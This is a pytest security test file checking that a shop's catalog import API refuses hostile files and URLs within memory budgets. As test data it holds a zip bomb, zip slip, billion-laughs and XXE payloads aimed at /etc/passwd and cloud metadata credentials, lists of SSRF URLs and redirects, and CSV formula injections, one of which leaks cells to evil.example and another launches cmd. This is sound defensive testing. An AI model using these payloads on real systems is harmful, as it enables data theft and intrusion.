"""Hostile files and URLs posted to the real API end refused, within time and memory budgets.

Every item goes through `POST /api/v1/imports/` with a write key, the import task runs
(eagerly, on commit) and so does image processing. An item passes when it is answered with
a 4xx, or its job ends rejected with the precise error code and writes no product, within
BUDGET_SECONDS wall time and BUDGET_BYTES of peak memory, with no connection to any
address but the test's own infrastructure (see tests/attack/guards.py).

Already specified elsewhere and not repeated here:
- the parser's answer to each hostile file (tests/catalog/formats/test_hostile_input.py,
  test_zip_archive.py) and XXE / binary uploads through the import service
  (tests/catalog/test_imports.py::test_hostile_files_are_rejected_and_write_nothing);
- the import-URL SSRF cases http://127.0.0.1, 169.254.169.254, file://, [::1] and
  2130706433 over the API (test_imports.py::test_import_urls_to_internal_addresses_...);
- every fetcher refusal with an injected resolver, DNS names resolving to private
  addresses, and redirects to 169.254.169.254, 10.0.0.7, 0x7f.1, metadata.google.internal,
  a rebinding name and file:// (tests/shop_ai/test_egress.py);
- pixel-flood headers and decompression bombs handed to image_safety directly
  (tests/catalog/test_image_safety.py), and the CSV export of a formula title posted as
  JSON (tests/catalog/test_products_api.py::test_export_neutralises_formula_cells).
"""

from __future__ import annotations

import contextlib
import csv
import functools
import io
import json
import os
import socket
import struct
import threading
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image
from rest_framework import serializers

from catalog import images as catalog_images
from catalog.formats.fields import FORMULA_STARTS
from catalog.models import ImageStatus, ImportJob, ImportStatus, Product, ProductImage
from shop_ai.egress import FetchPolicy, FetchRefused, fetch_url
from tests.attack.guards import MiB, SocketGuard, Usage, guarded_sockets, measure
from tests.conftest import Actor

pytestmark = pytest.mark.django_db

BUDGET_SECONDS = 2.0
BUDGET_BYTES = 256 * MiB
# bench/bench_hostile.py sets this to a file path: each test's usage is appended there.
USAGE_REPORT = os.environ.get("SHOP_AI_HOSTILE_USAGE_REPORT", "")


def _record(usage: Usage) -> None:
    if not USAGE_REPORT:
        return
    test = os.environ.get("PYTEST_CURRENT_TEST", "?").split(" ")[0].rsplit("::", 1)[-1]
    entry = {"test": test, "seconds": round(usage.seconds, 3)}
    entry["traced_peak_mib"] = round(usage.traced_peak_bytes / MiB, 1)
    if usage.rss_growth_bytes is not None:
        entry["rss_growth_mib"] = round(usage.rss_growth_bytes / MiB, 1)
    with open(USAGE_REPORT, "a", encoding="utf-8") as report:
        report.write(json.dumps(entry) + "\n")


G_NS = 'xmlns:g="http://base.google.com/ns/1.0"'


# --- hostile payloads -----------------------------------------------------------------------


def make_zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(zipfile.ZipInfo(name), content, compress_type=zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def png_flood(width: int, height: int) -> bytes:
    """A valid-looking PNG that declares width x height but carries almost no pixel data."""

    def chunk(kind: bytes, payload: bytes) -> bytes:
        crc = zlib.crc32(kind + payload)
        return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", crc)

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)  # 8-bit RGB
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0" * 1024))
        + chunk(b"IEND", b"")
    )


def png_just_under_the_pixel_cap() -> bytes:
    """A real, fully decodable 6300 x 6300 black PNG (39.7 Mpx, under MAX_PIXELS): ~115 KB."""
    buffer = io.BytesIO()
    Image.new("RGB", (6300, 6300)).save(buffer, "PNG")
    return buffer.getvalue()


FLOOD_PNG = png_flood(50_000, 50_000)  # 2.5 gigapixels: 7.5 GB if it were decoded
CATALOG_HEADER = b"sku,title,price,image_urls\n"

# The catalog member itself is the bomb: 24 MB of padding deflates to ~24 KB (ratio ~1000).
ZIP_BOMB = make_zip({"catalog.csv": CATALOG_HEADER + b"A-1,Mug,5.00,\n" + b" " * (24 * MiB)})
ZIP_SLIP = make_zip(
    {"catalog.csv": CATALOG_HEADER + b"A-1,Mug,5.00,\n", "../../etc/passwd": b"root::0:0::/:"}
)
BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE rss [\n <!ENTITY lol "lol">\n'
    + "".join(
        f' <!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">\n'
        for n in range(1, 10)
    )
    + f"]>\n<rss {G_NS}><channel><item><g:id>1</g:id><g:title>&lol9;</g:title>"
    "<g:price>1 USD</g:price></item></channel></rss>"
).encode()
XXE_FILE = (
    '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
    f"<rss {G_NS}><channel><item><g:id>1</g:id><g:title>&secret;</g:title>"
    "<g:price>1 USD</g:price></item></channel></rss>"
).encode()
# External entities that would make the parser itself fetch an internal URL.
XXE_METADATA = (
    '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY creds SYSTEM '
    '"http://169.254.169.254/latest/meta-data/iam/security-credentials/">]>'
    f"<rss {G_NS}><channel><item><g:id>1</g:id><g:title>&creds;</g:title>"
    "<g:price>1 USD</g:price></item></channel></rss>"
).encode()
XXE_PARAMETER_ENTITY = (
    '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % remote SYSTEM '
    '"http://127.0.0.1:6379/evil.dtd"> %remote;]>'
    f"<rss {G_NS}><channel><item><g:id>1</g:id><g:title>x</g:title>"
    "<g:price>1 USD</g:price></item></channel></rss>"
).encode()
CHINESE_CSV = "sku,title,price\nG-1,中文标题-石头杯,5.00\n"
# A UTF-8 byte-order mark promises UTF-8; the bytes after it are GBK.
GBK_BEHIND_UTF8_BOM = b"\xef\xbb\xbf" + CHINESE_CSV.encode("gbk")

REJECTED_UPLOADS = [
    pytest.param("bomb.zip", ZIP_BOMB, "zip_bomb", id="zip-bomb"),
    pytest.param("slip.zip", ZIP_SLIP, "zip_slip", id="zip-slip-etc-passwd"),
    pytest.param("feed.xml", BILLION_LAUGHS, "xml_forbidden", id="billion-laughs"),
    pytest.param("feed.xml", XXE_FILE, "xml_forbidden", id="xxe-file-etc-passwd"),
    pytest.param("feed.xml", XXE_METADATA, "xml_forbidden", id="xxe-http-metadata"),
    pytest.param("feed.xml", XXE_PARAMETER_ENTITY, "xml_forbidden", id="xxe-parameter-entity"),
    pytest.param("catalog.csv", GBK_BEHIND_UTF8_BOM, "bad_encoding", id="gbk-after-utf8-bom"),
]

# Import URLs aimed at internal services, each spelled a way a naive check might miss.
# The answer code is the fetcher's (shop_ai.egress) or, where Django's URLValidator
# already refuses the spelling (other schemes, numeric or dotless hosts), the serializer's
# "invalid". Either way the answer is a 400 and no job exists.
SSRF_IMPORT_URLS = [
    ("http://localhost/feed.csv", "address_not_allowed"),
    ("http://LOCALHOST./feed.csv", "invalid"),
    ("http://0.0.0.0/feed.csv", "address_not_allowed"),
    ("http://[::]/feed.csv", "address_not_allowed"),
    ("http://127.0.0.1:6379/", "address_not_allowed"),  # Redis on the same host
    ("https://127.0.0.1:5432/", "address_not_allowed"),  # PostgreSQL
    ("http://10.0.0.1/feed.csv", "address_not_allowed"),
    ("http://192.168.1.1/feed.csv", "address_not_allowed"),
    ("http://172.16.0.1/feed.csv", "address_not_allowed"),
    ("http://100.100.100.200/latest/meta-data/", "address_not_allowed"),  # Alibaba metadata
    ("http://[fd00:ec2::254]/latest/meta-data/", "address_not_allowed"),  # AWS over IPv6
    ("http://[fe80::1]/feed.csv", "address_not_allowed"),
    ("http://metadata.google.internal/computeMetadata/v1/", "address_not_allowed"),
    ("http://metadata/computeMetadata/v1/", "invalid"),
    ("http://0x7f000001/", "invalid"),
    ("http://017700000001/", "invalid"),
    ("http://0177.0.0.1/", "invalid"),
    ("http://127.1/", "invalid"),
    ("http://0/", "invalid"),
    ("http://[::ffff:127.0.0.1]/", "bad_url"),
    ("http://[0:0:0:0:0:ffff:a9fe:a9fe]/", "bad_url"),  # 169.254.169.254, IPv4-mapped
    ("http://feeds.example@127.0.0.1/feed.csv", "bad_url"),
    ("gopher://127.0.0.1:6379/_FLUSHALL", "invalid"),
    ("dict://127.0.0.1:6379/info", "invalid"),
]

# Image links inside an otherwise valid catalog: the products land, the images must not be
# fetched from where they point.
SSRF_IMAGE_URLS = [
    ("http://169.254.169.254/latest/meta-data/iam/role.png", "address_not_allowed"),
    ("http://10.0.0.1/a.png", "address_not_allowed"),
    ("http://localhost:6379/a.png", "address_not_allowed"),
    ("http://[::1]/a.png", "address_not_allowed"),
    ("http://[::ffff:127.0.0.1]/a.png", "bad_url"),
    ("http://0x7f000001/a.png", "bad_url"),
    ("http://2130706433/a.png", "bad_url"),
    ("http://metadata.google.internal/a.png", "address_not_allowed"),
]


# --- harness --------------------------------------------------------------------------------


@dataclass
class Outcome:
    status_code: int
    body: dict[str, Any]
    job: ImportJob | None
    usage: Usage


@pytest.fixture
def sockets(monkeypatch) -> Iterator[SocketGuard]:
    with guarded_sockets(monkeypatch) as guard:
        yield guard


@pytest.fixture(autouse=True)
def _media_in_tmp(settings, tmp_path) -> None:
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.fixture(scope="module", autouse=True)
def _warm_code_paths() -> None:
    """Run each code path once before anything is measured.

    Modules imported on first use (the XML parser, the IDNA codec, Pillow's plugins) and
    patterns compiled on first use load slowly, more so under tracemalloc; that is a
    one-off of the process, not the hostile item's cost.
    """
    from catalog.formats import parse_catalog
    from catalog.image_safety import inspect_image, make_thumbnail
    from shop_ai.egress import resolve_target

    parse_catalog(CATALOG_HEADER + b"W-1,Warm,1.00,\n")
    parse_catalog(f"<rss {G_NS}><channel></channel></rss>".encode())
    parse_catalog(b'[{"sku": "W-1", "title": "Warm", "price": "1.00"}]')
    parse_catalog(make_zip({"c.csv": CATALOG_HEADER + b"W-1,Warm,1.00,\n"}))
    # Django's URL validator compiles its (large) host patterns on first use.
    serializers.URLField().run_validation("https://cdn.example.com/feed.csv")
    for url in ("http://localhost/", "http://0x7f000001/"):
        with contextlib.suppress(FetchRefused):
            resolve_target(url)
    tiny = io.BytesIO()
    Image.new("RGB", (2, 2)).save(tiny, "PNG")
    inspect_image(tiny.getvalue())
    make_thumbnail(tiny.getvalue())


def post_import(
    actor: Actor, capture: Any, *, upload: tuple[str, bytes] | None = None, url: str = ""
) -> Outcome:
    """POST the import, let its task and image batches run, and measure all of it."""
    client = actor.client()
    # A new test client builds Django's middleware stack on its first request (WhiteNoise
    # scans every static file then): that is set-up, not the cost of the hostile item.
    assert client.get("/api/v1/imports/").status_code == 200
    assert client.post("/api/v1/imports/", {}, format="json").status_code == 400
    with measure() as usage, capture(execute=True):
        if upload is not None:
            name, data = upload
            response = client.post(
                "/api/v1/imports/",
                {"file": SimpleUploadedFile(name, data)},
                format="multipart",
            )
        else:
            response = client.post("/api/v1/imports/", {"source_url": url}, format="json")
    body = response.json()
    job = ImportJob.objects.filter(pk=body["id"]).first() if "id" in body else None
    return Outcome(response.status_code, body, job, usage)


def assert_within_budget(usage: Usage) -> None:
    """Memory is asserted here; wall time only recorded, for bench/bench_hostile.py to judge
    against BUDGET_SECONDS (a timed assertion in a unit test fails on a busy machine)."""
    _record(usage)
    assert usage.traced_peak_bytes < BUDGET_BYTES, usage.describe()
    if usage.rss_growth_bytes is not None:
        assert usage.rss_growth_bytes < BUDGET_BYTES, usage.describe()


def assert_nothing_reached(sockets: SocketGuard) -> None:
    assert sockets.refused == [], f"connections attempted: {sockets.refused}"


# --- uploads that must be rejected ----------------------------------------------------------


@pytest.mark.parametrize(("name", "data", "code"), REJECTED_UPLOADS)
def test_hostile_upload_is_rejected_without_writing(
    alice: Actor, django_capture_on_commit_callbacks, sockets, name, data, code
):
    outcome = post_import(alice, django_capture_on_commit_callbacks, upload=(name, data))

    assert outcome.status_code == 202, outcome.body
    assert outcome.job is not None
    outcome.job.refresh_from_db()
    assert outcome.job.status == ImportStatus.REJECTED
    assert outcome.job.error_code == code, outcome.job.error_message
    assert outcome.job.created_count == 0
    assert not Product.objects.filter(store=alice.store).exists()
    assert "root:" not in outcome.job.error_message
    assert_within_budget(outcome.usage)
    assert_nothing_reached(sockets)


# --- import URLs aimed inside ---------------------------------------------------------------


@pytest.mark.parametrize(("url", "code"), SSRF_IMPORT_URLS)
def test_internal_import_url_is_refused_before_any_job(
    alice: Actor, django_capture_on_commit_callbacks, sockets, url, code
):
    outcome = post_import(alice, django_capture_on_commit_callbacks, url=url)

    assert outcome.status_code == 400, outcome.body
    assert outcome.body["error"]["code"] == code, outcome.body
    assert not ImportJob.objects.filter(store=alice.store).exists()
    assert_within_budget(outcome.usage)
    assert_nothing_reached(sockets)


def test_internal_image_links_in_a_catalog_are_never_fetched(
    alice: Actor, django_capture_on_commit_callbacks, sockets
):
    rows = "".join(f"SSRF-{n},Mug {n},5.00,{url}\n" for n, (url, _) in enumerate(SSRF_IMAGE_URLS))
    data = CATALOG_HEADER + rows.encode()

    outcome = post_import(alice, django_capture_on_commit_callbacks, upload=("c.csv", data))

    assert outcome.job is not None
    outcome.job.refresh_from_db()
    assert outcome.job.status == ImportStatus.SUCCEEDED, outcome.job.error_message
    images = {image.source: image for image in ProductImage.objects.filter(store=alice.store)}
    assert len(images) == len(SSRF_IMAGE_URLS)
    for url, code in SSRF_IMAGE_URLS:
        assert images[url].status == ImageStatus.FAILED, url
        assert images[url].error.startswith(code + ":"), (url, images[url].error)
        assert not images[url].file
    assert_within_budget(outcome.usage)
    assert_nothing_reached(sockets)


# --- redirects ------------------------------------------------------------------------------


class _Handler(BaseHTTPRequestHandler):
    def log_message(self, format: str, *args: object) -> None:
        pass

    def do_GET(self) -> None:
        if self.path.startswith("/redirect/"):
            status, _, location = self.path.removeprefix("/redirect/").partition("?to=")
            self.send_response(int(status))
            self.send_header("Location", location)
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        body = self.server.files.get(self.path)  # type: ignore[attr-defined]
        if body is None:
            self.send_error(404)
            return
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


@dataclass
class LocalServer:
    port: int
    files: dict[str, bytes]

    @property
    def base_url(self) -> str:
        return f"http://127.0.0.1:{self.port}"


@pytest.fixture
def local_server(sockets: SocketGuard) -> Iterator[LocalServer]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
    server.files = {}  # type: ignore[attr-defined]
    thread = threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True)
    thread.start()
    port = server.server_address[1]
    sockets.allow(port)
    try:
        yield LocalServer(port=int(port), files=server.files)  # type: ignore[attr-defined]
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=5)


def rebinding_dns(host: str, port: int) -> list[tuple[Any, ...]]:
    """Public-looking names that resolve to internal addresses (what DNS rebinding does)."""
    table = {
        "cdn.shop.example": "127.0.0.1",  # the test server: allowed only under allow_loopback
        "rebind.example": "10.0.0.1",
        "meta.example": "169.254.169.254",
        "v6.example": "fd00::1",
        "mapped.example": "::ffff:10.0.0.1",
    }
    ip = table[host]
    family = socket_family(ip)
    return [(family, 1, 6, "", (ip, port))]


def socket_family(ip: str) -> int:
    return socket.AF_INET6 if ":" in ip else socket.AF_INET


# Destinations test_egress.py::test_every_redirect_hop_is_checked_again does not cover.
REDIRECT_DESTINATIONS = [
    ("302", "http://rebind.example/latest/"),
    ("301", "http://meta.example/latest/meta-data/"),
    ("307", "http://v6.example/"),
    ("308", "http://mapped.example/"),
    ("302", "http://[::ffff:10.0.0.1]/"),
    ("302", "http://167772161/"),  # 10.0.0.1 as one decimal number
    ("302", "http://012.0.0.1/"),  # 10.0.0.1 in octal
    ("302", "http://192.168.1.1:8080/admin"),
    ("303", "//10.0.0.1/x.png"),  # scheme-relative: keeps http, changes host
    ("302", "http://[fd00:ec2::254]/latest/meta-data/"),
]


@pytest.mark.parametrize(("status", "destination"), REDIRECT_DESTINATIONS)
def test_a_redirect_to_an_internal_address_is_not_followed(
    local_server: LocalServer, sockets: SocketGuard, status, destination
):
    # The test settings keep loopback refused for fetches (DEFAULT_POLICY), so the fetcher is
    # called directly: loopback is let through for the first hop only because the test's own
    # server lives there, and names resolve through a resolver that answers private addresses.
    policy = FetchPolicy(allow_loopback=True, resolver=rebinding_dns, total_timeout_s=2)
    url = f"http://cdn.shop.example:{local_server.port}/redirect/{status}?to={destination}"

    with measure() as usage, pytest.raises(FetchRefused) as refused:
        fetch_url(url, policy=policy)

    assert refused.value.code in {"address_not_allowed", "bad_url"}, refused.value
    assert [address[1] for address in sockets.attempts] == [local_server.port]
    assert_nothing_reached(sockets)
    assert_within_budget(usage)


# --- pixel floods ---------------------------------------------------------------------------


def test_pixel_flood_png_inside_a_zip_is_refused_without_decoding(
    alice: Actor, django_capture_on_commit_callbacks, sockets
):
    data = make_zip(
        {
            "catalog.csv": CATALOG_HEADER + b"P-1,Mug,5.00,images/flood.png\n",
            "images/flood.png": FLOOD_PNG,
        }
    )

    outcome = post_import(alice, django_capture_on_commit_callbacks, upload=("c.zip", data))

    image = ProductImage.objects.get(store=alice.store)
    # The catalog row is valid, so its product lands; the image is what is refused.
    assert image.status == ImageStatus.FAILED
    assert image.error.startswith("too_many_pixels:"), image.error
    assert not image.file
    assert not image.thumbnail
    assert_within_budget(outcome.usage)
    assert_nothing_reached(sockets)


def test_pixel_flood_png_behind_an_image_url_is_refused_without_decoding(
    alice: Actor, django_capture_on_commit_callbacks, local_server, monkeypatch
):
    local_server.files["/flood.png"] = FLOOD_PNG
    # The test settings refuse loopback fetches; the test server is on loopback.
    monkeypatch.setattr(
        catalog_images,
        "fetch_url",
        functools.partial(fetch_url, policy=FetchPolicy(allow_loopback=True)),
    )
    row = f"P-1,Mug,5.00,{local_server.base_url}/flood.png\n".encode()

    outcome = post_import(
        alice, django_capture_on_commit_callbacks, upload=("c.csv", CATALOG_HEADER + row)
    )

    image = ProductImage.objects.get(store=alice.store)
    assert image.status == ImageStatus.FAILED
    assert image.error.startswith("too_many_pixels:"), image.error
    assert not image.file
    assert_within_budget(outcome.usage)


def test_a_highly_compressed_image_under_the_pixel_cap_stays_within_budget(
    alice: Actor, django_capture_on_commit_callbacks, sockets
):
    data = make_zip(
        {
            "catalog.csv": CATALOG_HEADER + b"P-1,Mug,5.00,images/big.png\n",
            "images/big.png": png_just_under_the_pixel_cap(),
        }
    )

    outcome = post_import(alice, django_capture_on_commit_callbacks, upload=("c.zip", data))

    assert ProductImage.objects.get(store=alice.store).status in {
        ImageStatus.READY,
        ImageStatus.FAILED,
    }
    assert_within_budget(outcome.usage)


# --- formulas and encodings -----------------------------------------------------------------

FORMULA_CSV = (
    "sku,title,brand,category,tags,description,price,attributes\n"
    'F-1,"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",'
    '"+cmd|\' /C calc\'!A0",@SUM(1+1),"-1+1, safe",=1+1,5.00,\n'
    'F-2,@SUM(A1:A9),=cmd,-2+3,"@x, y",+1,6.00,"{""note"": ""=1""}"\n'
)


def test_formula_cells_from_an_import_come_out_neutralized_in_the_export(
    alice: Actor, django_capture_on_commit_callbacks, sockets
):
    outcome = post_import(
        alice, django_capture_on_commit_callbacks, upload=("f.csv", FORMULA_CSV.encode())
    )
    assert outcome.job is not None
    outcome.job.refresh_from_db()
    assert (outcome.job.status, outcome.job.created_count) == (ImportStatus.SUCCEEDED, 2)

    with measure() as usage:
        response = alice.client().get("/api/v1/products/export.csv")
        exported = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
    rows = list(csv.DictReader(io.StringIO(exported)))

    assert [row["sku"] for row in rows] == ["F-1", "F-2"]
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS), (column, cell)
    first, second = rows
    assert first["title"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    assert first["brand"] == "'+cmd|' /C calc'!A0"
    assert first["category"] == "'@SUM(1+1)"
    assert first["tags"] == "'-1+1, safe"
    assert second["title"] == "'@SUM(A1:A9)"
    assert second["category"] == "'-2+3"
    # Imported values are kept as the seller wrote them; only the export is neutralized.
    assert Product.objects.get(store=alice.store, sku="F-2").brand == "=cmd"
    assert_within_budget(outcome.usage)
    assert_within_budget(usage)
    assert_nothing_reached(sockets)


def test_gbk_bytes_under_an_xml_declaration_of_utf8_are_read_as_gbk_not_mojibake(
    alice: Actor, django_capture_on_commit_callbacks, sockets
):
    # By design (catalog/formats/text_decoding.py) bytes that are not UTF-8 are tried as
    # GB18030, whatever the XML declaration says: Chinese exports lie about it often.
    feed = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        f"<rss {G_NS}><channel><item><g:id>G-1</g:id><g:title>中文标题-石头杯</g:title>"
        "<g:price>5.00 CNY</g:price></item></channel></rss>"
    ).encode("gbk")

    outcome = post_import(alice, django_capture_on_commit_callbacks, upload=("feed.xml", feed))

    assert outcome.job is not None
    outcome.job.refresh_from_db()
    assert outcome.job.status == ImportStatus.SUCCEEDED, outcome.job.error_message
    assert Product.objects.get(store=alice.store, sku="G-1").title == "中文标题-石头杯"
    assert_within_budget(outcome.usage)
    assert_nothing_reached(sockets)


# --- findings of the fuzzers, pinned until fixed --------------------------------------------


def zip_with_central_directory_offset_past_its_start() -> bytes:
    """A ZIP whose end record says the central directory starts 200 bytes later than it does.

    zipfile then computes a negative offset for every member; found by
    tests/attack/test_parser_fuzz.py (bench/fuzz_parsers.py, strategy "zip").
    """
    data = bytearray(make_zip({"catalog.csv": CATALOG_HEADER + b"A-1,Mug,5.00,\n"}))
    end = data.rindex(b"PK\x05\x06")
    offset = struct.unpack_from("<I", data, end + 16)[0]
    struct.pack_into("<I", data, end + 16, offset + 200)
    return bytes(data)


def test_a_zip_with_a_lying_central_directory_offset_is_rejected_as_malformed(
    alice: Actor, django_capture_on_commit_callbacks, sockets
):
    data = zip_with_central_directory_offset_past_its_start()

    outcome = post_import(alice, django_capture_on_commit_callbacks, upload=("c.zip", data))

    assert outcome.job is not None
    outcome.job.refresh_from_db()
    assert (outcome.job.status, outcome.job.error_code) == (ImportStatus.REJECTED, "malformed")
    assert not Product.objects.filter(store=alice.store).exists()


def test_an_image_member_with_a_damaged_header_fails_that_image_only(
    alice: Actor, django_capture_on_commit_callbacks, sockets
):
    data = bytearray(
        make_zip(
            {
                "catalog.csv": CATALOG_HEADER + b"P-1,Mug,5.00,img.png\n",
                "img.png": FLOOD_PNG,
            }
        )
    )
    second_member = data.index(b"PK\x03\x04", 4)
    data[second_member : second_member + 2] = b"XX"  # the parser never reads image headers

    post_import(alice, django_capture_on_commit_callbacks, upload=("c.zip", bytes(data)))

    image = ProductImage.objects.get(store=alice.store)
    assert image.status == ImageStatus.FAILED
    assert image.error
